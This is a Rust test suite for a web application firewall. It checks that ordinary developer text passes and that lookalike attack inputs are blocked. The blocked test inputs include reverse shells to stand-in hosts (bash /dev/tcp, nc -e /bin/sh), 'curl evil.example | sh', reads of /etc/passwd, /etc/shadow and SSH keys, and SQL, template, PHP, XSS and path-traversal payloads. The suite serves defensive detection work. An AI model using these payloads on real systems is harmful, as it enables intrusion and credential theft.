//! Text written for people that names attacks (changelogs, issue bodies,
//! searches, product copy) passes; the attack it resembles blocks.

use super::*;

#[test]
fn random_passwords_are_not_code() {
    // Generated passwords hold `$(`, `$x(`, `$_` and `$!` by chance; the
    // shell and PHP need them closed and spliced into lower-case words.
    for password in [
        "LHA7LXZp$(w5el",
        "Hj(n$A(cHmG&5X",
        "$YWPX(I)q08cq",
        "c$_HVfBy4f62N*",
        "J$!BA4ckat(0HO",
        "_$!9IeRs$@n",
        "FCD10+vdo$_o2UZ",
    ] {
        passes(json(&format!(r#"{{"password":"{password}"}}"#)));
    }
    for attack in
        ["x=$(id)", "x=w$@hoami", "x=c$!at%20/etc/passwd", "x=uname$u%20-a", "x=$a(1);", "x=$f($_GET[c])"]
    {
        let class = if attack.contains("$a(") || attack.contains("$f(") { Class::Php } else { Class::Rce };
        blocks(query(attack), class);
    }
}

#[test]
fn developer_prose_passes_and_its_attack_twins_block() {
    messages_pass(&[
        "bash (5.2.15-2) unstable; urgency=medium",
        "Bash is distributed in the hope that it will be useful, but WITHOUT",
        "Stop using debconf to select the default /bin/sh.",
        "Use $(MAKE) instead of hard-coding the make command; pass CC=$(CC).",
        "libxaw7{,-dbg} don't need to depend on x11-common.",
        "* debian/{changelog,control}: add build-{arch,indep} targets",
        "Files: src/*/ssl/keystore",
        "File \"src/app/__init__.py\", line 3, in <module>",
    ]);
    blocks(query("a=bash%20-i%20>%26%20/dev/tcp/10.0.0.1/4444%200>%261"), Class::Rce);
    blocks(query("a=curl%20evil.example%20|%20sh"), Class::Rce);
    blocks(query("a=%3B/bin/sh"), Class::Rce);
    blocks(query("a=c%7Ba,oun%7Dt%20/etc/passwd"), Class::Rce);
    blocks(query("a=%7Bcat,/etc/passwd%7D"), Class::Rce);
    blocks(query("a=%24(whoami)"), Class::Rce);
    blocks(query("a=/???/c?t%20/???/p??s??"), Class::Rce);
    blocks(query("test=DR/**/OP/*x*/sampletable"), Class::Sqli);
    blocks(query("t={{''.__class__.__mro__[1].__subclasses__()}}"), Class::Template);
    blocks(query("f=..0x2fetc/passwd"), Class::Lfi);
    blocks(query("f=..%u2215..%u2215etc%u2215passwd"), Class::Lfi);
    blocks(query("x=count(/child::node())"), Class::Sqli);
    blocks(query("x='%23mysql"), Class::Sqli);
    passes(json(r#"{"message":"pass '--add-udeb' to dh_makeshlibs; see 'man 2 syscall'"}"#));
}

#[test]
fn a_search_for_a_tool_is_no_command_line() {
    // A tool's name and plain words: a query or a title.
    for q in ["python web framework", "curl examples", "bash scripting guide", "python repositories:>950"] {
        passes(query(&format!("q={}", q.replace(' ', "+"))));
        passes(json(&serde_json::json!({ "query": q }).to_string()));
    }
    passes(query("q=python+3.12+release+notes"));
    // The same names with what a shell takes: a file, a host, an address.
    blocks(query("code=python+exploit.py"), Class::Rce);
    blocks(query("code=curl+evil.example/x.sh"), Class::Rce);
    blocks(query("code=wget+10.0.0.1:8000"), Class::Rce);
    // An administration tool's name is no topic: plain words suffice.
    blocks(query("code=cscli+alerts+list"), Class::Rce);
}

#[test]
fn quoted_operators_and_options_in_prose() {
    messages_pass(&[
        "RE: [JIRA] (PROJ-123) Login fails when password contains '&' or '<'",
        "Is it \"color\" or \"colour\"?",
        "Ask for \"SELECT\" or \"Premium\" tier at checkout.",
        "100% satisfied -- 5 stars",
        "What is the use case for this",
    ]);
    blocks(query("name=x%27%3D%27x%27%20or%20%27a"), Class::Sqli);
    blocks(query("id=1%20--"), Class::Sqli);
}

#[test]
fn weak_signs_add_up_within_one_value_only() {
    // 1030 (a quoted word before a SQL keyword) and 3059 (a shell path) warn.
    passes(json(
        r#"{"a":"Merge branch 'topic' into develop","b":"Replace /usr/bin/ruby with the full path"}"#,
    ));
    let one = json(r#"{"a":"Merge branch 'topic' into develop; Replace /usr/bin/ruby with the full path"}"#);
    assert!(one.blocked(DEFAULT_THRESHOLD), "{one:?}");
    // A condition's tail, not English that opens with "And".
    blocks(query("x=and%20password%20is%20not%20null"), Class::Sqli);
    passes(text("And here is the reply I received from the support team"));
    // C's conditions: one weak sign, not two.
    passes(text("if (alpha > 0 && version == 11) { glBlendEquation(mode); }"));
    // A hex literal is data: a tag, a pointer in a crash log.
    passes(query("tag=0xabad1dea"));
    passes(text("Object 0x3478e0f0 of class NSCFArray autoreleased with no pool in place"));
}

#[test]
fn code_and_markdown_that_name_attack_words() {
    passes(json(r#"{"body":"lua 3.0.1 [php](https://github.com/advisories/GHSA-x) 2.0"}"#));
    blocks(query("x=[php]system('id');[/php]"), Class::Php);
    passes(json(r#"{"body":"necesita tener mysql en el $PATH (se tiene que estar ejecutando)"}"#));
    blocks(query("x=%24OOO0000O0%20%2816%29"), Class::Php);
    blocks(query("f=%24a(1)"), Class::Php);
    passes(json(r#"{"body":"while (!ports_.empty()) { ports_.pop_back(); }"}"#));
    blocks(query("x=while(!0){}"), Class::Generic);
    // A word command alone in backquotes: a code span in prose, command
    // substitution in a short value.
    let prose = "Adds two forms of ofToString, which behave like the arguments to `printf` \
                 with a width and a fill character, so that padded numbers need no sprintf call.";
    passes(json(&format!(r#"{{"body":"{prose}"}}"#)));
    blocks(query("name=x%60id%60"), Class::Rce);
    blocks(json(r#"{"name":"`id`"}"#), Class::Rce);
    blocks(query("name=Ada%20%60id%60"), Class::Rce);
    blocks(query("name=%60id%60%3Bx"), Class::Rce);
    passes(json(r#"{"description":"The field `id` is guaranteed to be set."}"#));
    // A glob's `/*/` segment is not an SQL comment; `DR/**/OP` is.
    passes(json(r#"{"description":"Format: `projects/*/locations/*/keys/*`"}"#));
    blocks(query("q=1%20DR/**/OP%20TABLE%20users"), Class::Sqli);
    // `SELECT *` as SQL goes on, and as English does.
    for attack in ["1 union select * from users--", "x';select * from users u where 1", "-1 union select *"] {
        blocks(json(&format!(r#"{{"q":"{attack}"}}"#)), Class::Sqli);
    }
    passes(json(r#"{"q":"Select * from the menu is not a valid choice, waiter."}"#));
}

/// In a long value, weak signs add up only where they sit together
/// (`locality`): the same two signs block in a short span of a long text
/// and pass when a changelog's lines keep them apart. (A stray quote
/// before a keyword: a quoted term, `'topic' into`, is no sign at all.)
#[test]
fn weak_signs_count_where_they_sit_together() {
    let filler = "Fixed the build on the new toolchain and updated the docs.\n".repeat(12);
    let apart = format!("Merge branch topic' into develop\n{filler}Replace /usr/bin/ruby with the full path");
    assert!(apart.len() > locality::LONG_VALUE);
    passes(text(&apart));
    let together =
        format!("{filler}Merge branch topic' into develop; Replace /usr/bin/ruby with the full path");
    blocks(text(&together), Class::Sqli);
    // Critical signs count wherever they are.
    blocks(text(&format!("{filler}{filler}1' UNION SELECT password FROM users--")), Class::Sqli);
}

#[test]
fn prose_mentions_paths_and_calls_in_passing() {
    passes(json(
        r#"{"body":"The linker fails:\n\n../../../libs/poco/lib/libPocoNet.a was not found\nfrom the project generator, so copy(file) in the build script never runs"}"#,
    ));
    blocks(query("f=../../../libs/poco/lib/libPocoNet.a"), Class::Lfi);
    blocks(query("f=copy($_GET['a'],'x.php')"), Class::Php);
    // Strong signs still count in prose.
    blocks(
        json(
            r#"{"body":"a long text of many words that reads as prose to the waf, then a path:\n../../../../etc/passwd"}"#,
        ),
        Class::Lfi,
    );
    // Files of secrets named in an issue body; opened by path or command.
    messages_pass(&[
        "But I didn't change anything in my .git/config. I thought those new refs would only be pulled \
         if I added the line to it, and the remote for heroku was the same as before.",
        "Requests will pick up authentication credentials from ~/.netrc if neither session \
         auth nor an explicit auth argument is given, which surprised us in production.",
        "The existing approach was missing necessary files, such as tests/id_rsa.pub",
    ]);
    // A log record opens with its program's name and a date; a netcat
    // reverse shell names its host first.
    messages_pass(&[
        "update-alternatives 2025-06-24 14:39:44: run with --install /usr/bin/jar jar /usr/lib/jvm/bin/jar 1711",
    ]);
    blocks(message("nc 10.0.0.1 4444 -e /bin/sh"), Class::Rce);
    blocks(message("ncat evil.example 443 -c bash"), Class::Rce);
    // A method named sleep is no time-based injection.
    messages_pass(&["Between polls the client calls time.sleep(5), and asyncio.sleep(0) yields."]);
    blocks(query("id=1%20and%20sleep(5)%23"), Class::Sqli);
    for path in ["f=.git/config", "f=..%2f..%2f.git%2fconfig", "f=~/.ssh/id_rsa", "f=%3B%20cat%20.git/config"]
    {
        blocks(query(path), Class::Lfi);
    }
}

/// Prose quotes the terms it defines or names; a keyword after the closing
/// quote is English, not SQL after a string an injection closed.
#[test]
fn quoted_terms_in_prose_are_words() {
    messages_pass(&[
        "1. Definitions. The terms \"reproduce,\" \"reproduction,\" and \"distribution\" in this license \
         have the same meaning here as under U.S. copyright law, and apply to every part of the work.",
        "If you try and make an app which is armv7 and \"only build active archs\" is not checked, or \
         \"valid architectures\" or \"arch\" in the target, you get an error.",
        "`You' refers to the licensee, or person using the project, where `using' is a generic term, and \
         `program' or `executable' in the text means the project's binary.",
    ]);
    let padding = "and the rest of this long sentence is ordinary text ".repeat(3);
    blocks(message(&format!("{padding} admin' or '1'='1")), Class::Sqli);
    blocks(message(&format!("{padding} x' union select password from users where 'a' in 'a")), Class::Sqli);
}

/// README sections as package registries serve them: a heading and a
/// fenced command are Markdown, not `#` comments and quoted identifiers.
#[test]
fn markdown_fences_and_headings_are_not_sql() {
    for body in [
        "## Installation\n\n```sh\n$ npm install body-parser\n```",
        "## Install\n\n```bash\nnpm install semver\n````",
        "## Importing\n\n```js\nimport PropTypes from 'prop-types'; // ES6\nvar PropTypes = require('prop-types'); // ES5\n```",
    ] {
        passes(json(&serde_json::json!({ "body": body }).to_string()));
    }
    blocks(query("id=1%20or%201%3D1%20%23%20x"), Class::Sqli);
}

/// Issue bodies and API descriptions name commands and code in Markdown
/// spans; a span is a word of the sentence, not a substitution or a quote.
#[test]
fn markdown_code_spans_in_prose_are_words() {
    messages_pass(&[
        "I found a bug in the cleanAllExamples.sh script: it only cleans the first example it encounters, \
         because there's a `cd ..` missing after each one, and `rm -rf obj/` then runs in the wrong place.",
        "Behaves like `\"%04d\"` or `\"%04f\"` arguments to `printf`, with `width=4` and `fill='0'` in this \
         example. Use it to align numbers in tables, or anywhere a fixed width helps the reader.",
        "The encoding used for `content` in this request. Currently, `\"utf-8\"` and `\"base64\"` are \
         supported, and any other value is refused with a validation error naming the field.",
    ]);
    blocks(query("host=a%60id%60"), Class::Rce);
    blocks(message("x;`whoami`"), Class::Rce);
    // Changelog entries: a command's name alone in a span, a backquoted
    // identifier beside SQL's words; the substitutions they resemble block.
    messages_pass(&[
        "Upgraded `whoami` to v2.",
        "Migrated to `base64 0.21`, `rsa 0.9`.",
        "Rename `Foo` into `Bar` (#12).",
    ]);
    for substitution in [
        "`whoami`",
        "a`whoami`",
        "x `whoami`",
        "`whoami`|nc evil.example 80",
        "`openssl s_client -connect x:443`",
    ] {
        blocks(message(substitution), Class::Rce);
    }
}

/// Package descriptions (PyPI's READMEs): install lines, headings over a
/// row of dashes, Python's entry-point guard, version notes and HTML
/// banners pass; the injections they resemble block.
#[test]
fn package_readmes_pass() {
    for body in [
        "pip install jsonschema-rs",
        "```bash\npip install --user -r requires/release\n```",
        "What it's not for\n-----------------",
        "if __name__ == '__main__':\n    web.run_app(app)",
        "- Drop Python 3.5 support; Python 3.6 is the minimal supported Python version.",
        "<div align=\"center\"><img src=\"https://example.com/logo.svg\" alt=\"\" height=\"150\"></div>",
        "To execute all tests, run:",
    ] {
        passes(json(&serde_json::json!({ "body": body }).to_string()));
    }
    blocks(query("x=admin%27--"), Class::Sqli);
    blocks(query("x=admin%27%20--%20-"), Class::Sqli);
    blocks(query("x=if%20%22a%22==%22a%22%20echo%20x"), Class::Rce);
    blocks(query("x=;sleep%205"), Class::Rce);
    blocks(query("x=;ping%2010.0.0.1"), Class::Rce);
    blocks(query("x=;pip%20install%20evil"), Class::Rce);
}

/// Variables named in documentation are names; run as a command they block.
#[test]
fn variables_named_in_prose_pass() {
    passes(json(r#"{"doc":"Environment variables such as $HOME and ${PATH} are expanded.","alt":"and/or"}"#));
    passes(json(r#"{"ignore":"!node_modules/**"}"#));
    blocks(query("x=;${SHELL}%20-c%20id"), Class::Rce);
    blocks(query("x=cat${IFS}/etc/passwd"), Class::Rce);
}

/// A Markdown table whose columns are named like commands (`| id |`,
/// `| ls |`) passes; a pipe into a command still blocks.
#[test]
fn markdown_tables_with_command_named_columns_pass() {
    let table = "| id | name | status |\n|----|------|--------|\n| 1 | alice | active |";
    passes(json(&serde_json::json!({ "body": table }).to_string()));
    passes(json(
        r#"{"body":"| Command | Description |\n|---|---|\n| ls | list files |\n| cat | print a file |"}"#,
    ));
    blocks(query("x=a%7Cid"), Class::Rce);
    blocks(query("x=%7C%20id%3B"), Class::Rce);
}

#[test]
fn argument_injection_and_windows_commands_block() {
    // Argument injection, PowerShell's cmdlets after a separator, Windows
    // tools, `$IFS` glued to a word; a PowerShell pipeline in prose passes.
    for attack in
        ["-o ProxyCommand=id", "x -X /var/www/html/x.php", "|| Get-Process", "| findstr /si pass *.xml"]
    {
        blocks(json(&format!(r#"{{"x":"{attack}"}}"#)), Class::Rce);
    }
    blocks(query("x=echo$IFS%22pwned%22"), Class::Rce);
    blocks(json(r#"{"x":"& echo %USERNAME%","y":"a\nsleep 5"}"#), Class::Rce);
    blocks(query("x=1%20union%20distinctrow%20select%201,2"), Class::Sqli);
    passes(json(r#"{"doc":"Get-Process | Select-Object Name, Id"}"#));
}

#[test]
fn issue_and_changelog_text_from_an_api_passes_and_its_attack_twins_block() {
    // Recorded by PyGithub from GitHub's API: a clause closed before the
    // link, a JVM property named in an advisory, a placeholder glued to a
    // name, a traceback's pointer.
    messages_pass(&[
        "Ansible module for Docker. Note: This module is now part of Ansible core, please see https://github.com/ansible/ansible.",
        "Python 3.12 released: https://python.org/downloads/",
        "setting the `java.io.tmpdir` system environment variable to a directory",
        "set the java.security.egd property for a faster start",
        "* Raise a FutureWarning on use of client_{id,secret} (#1506) (2475fa66)",
        "----> 1 for a in auths:",
    ]);
    passes(at_path("/repos/o/r/actions/workflows/manual_dispatch.yml"));
    blocks(query("a=python%20manage.py%20shell%20/tmp/x"), Class::Rce);
    blocks(query("a=%3B%7Bid,x%7D"), Class::Rce);
    blocks(query("a=%3B%7B,id,%7D"), Class::Rce);
    blocks(json(r#"{"p":"new java.io.FileInputStream(\"/etc/passwd\")"}"#), Class::Java);
    blocks(json(r#"{"p":"T(java.security.AccessController).doPrivileged(x)"}"#), Class::Java);
    blocks(query("x=--><script>alert(1)</script>"), Class::Xss);
    blocks(at_path("/config/database.yml"), Class::Lfi);
    blocks(at_path("/docker-compose.yml"), Class::Lfi);
}

#[test]
fn a_path_padded_with_sentences_is_still_a_path() {
    const PAD: &str = "Please see the notes below about the release and tell us what you think of the changes we made to the build system";
    for path in ["..0x2f..0x2fetc/passwd", "/.../.../.../etc/passwd", "../../../../../../windows/win.ini"] {
        blocks(message(&format!("{PAD} {path}")), Class::Lfi);
        blocks(message(&format!("{path} {PAD}")), Class::Lfi);
    }
    // A comment hides what follows it from SQL and PHP, padding included.
    blocks(query(&format!("u=admin'--%20{}", PAD.replace(' ', "%20"))), Class::Sqli);
    blocks(query("q=';exit(md5('x'));//%20see%20you"), Class::Php);
    messages_pass(&[
        "New layer -- `Router` -- for routing specific metrics",
        "`ofEvent testEvent;` -- fails to compile",
    ]);
    // What prose does write: a relative path or two steps up.
    messages_pass(&[
        &format!("{PAD}, in ../../src/lib.rs"),
        &format!("{PAD}: the include path ..\\..\\..\\addons\\ofxOpenCv\\libs moved..."),
    ]);
}

#[test]
fn a_payload_followed_by_sentences_is_judged_as_the_payload() {
    const PAD: &str = "Please see the notes below about the release and tell us what you think of the changes we made to the build system";
    // The value starts with the payload; what follows is its argument or
    // its comment, so the sentences do not make it prose.
    blocks(message(&format!("|env {PAD}")), Class::Rce);
    blocks(message(&format!("a;exit(md5('x'));// {PAD}")), Class::Php);
    blocks(message(&format!("www.example.com;c$*at /et$*c/pas$*swd {PAD}")), Class::Rce);
    blocks(json(&format!(r#"{{"q":"';alert(1);t=' {PAD}"}}"#)), Class::Xss);
    // Prose that starts with a link, a document, markup or a contraction.
    messages_pass(&[
        &format!(
            "https://github.com/o/r/blob/main/src/lib.rs#L158\n\nWhen a bad update (say, with an incorrect branch name) {PAD}"
        ),
        &format!("<div class=\"md\"><p>{PAD}</p></div>"),
        &format!("I'm sure that's right; {PAD}"),
        &format!("1) {PAD}"),
    ]);
}

#[test]
fn text_gets_one_verdict_as_a_query_argument_and_as_a_body() {
    let text = "In setup.py change:\n\n`from distutils.core import setup, Command`\n\nto:\n\n`from setuptools import setup, Command, find_packages`\n\nThus users can also distribute or use PyGithub as an .egg via this command:\n\n`python setup.py bdist_egg`";
    let encoded = percent_encoded(text);
    passes(query(&format!("body={encoded}")));
    passes(message(text));
    // A PHP call whose comment ends the value runs, sentences before it or not.
    let padded = "Please see the notes below about the release and tell us what you think of the changes we made ';exit(md5('x'));//";
    let encoded = percent_encoded(padded);
    blocks(query(&format!("q={encoded}")), Class::Php);
    blocks(message(padded), Class::Php);
}

#[test]
fn api_documentation_and_package_manifests_pass_and_the_attacks_near_them_do_not() {
    // GitHub's REST documentation and webhook deliveries (@octokit's
    // examples): a quoted operator, "to execute (e.g., ...)", a comment in
    // a code block after a `;`, npm's default test script, a scoped
    // package's tarball URL.
    messages_pass(&[
        "The `position` value equals the number of lines down from the first \"@@\" hunk header in the file.",
        "Specifies a task to execute (e.g., `deploy` or `deploy:migrations`).",
        "const key = 1;\n\n// Base64 the encrypted secret\nconst encrypted = 2;",
        "echo \"Error: no test specified\" && exit 1",
        "http://npm.pkg.github.com/@codertocat/hello-world-npm/-/@codertocat/hello-world-npm-1.0.0.tgz",
    ]);
    blocks(message("'{\"a\":1}'::jsonb @> '{\"a\":1}'"), Class::Sqli);
    blocks(message("x'; exec('sel'+'ect 1')--"), Class::Sqli);
    blocks(message("1; /bin/base64 /etc/shadow"), Class::Rce);
    blocks(message("<?php echo $_GET['x']; ?>"), Class::Php);
    blocks(query("src=http://foo@bar@evil.com/"), Class::Rfi);
}

fn at_path(path: &str) -> Inspection {
    inspect(&RequestView { path: Some(path), ..RequestView::default() })
}
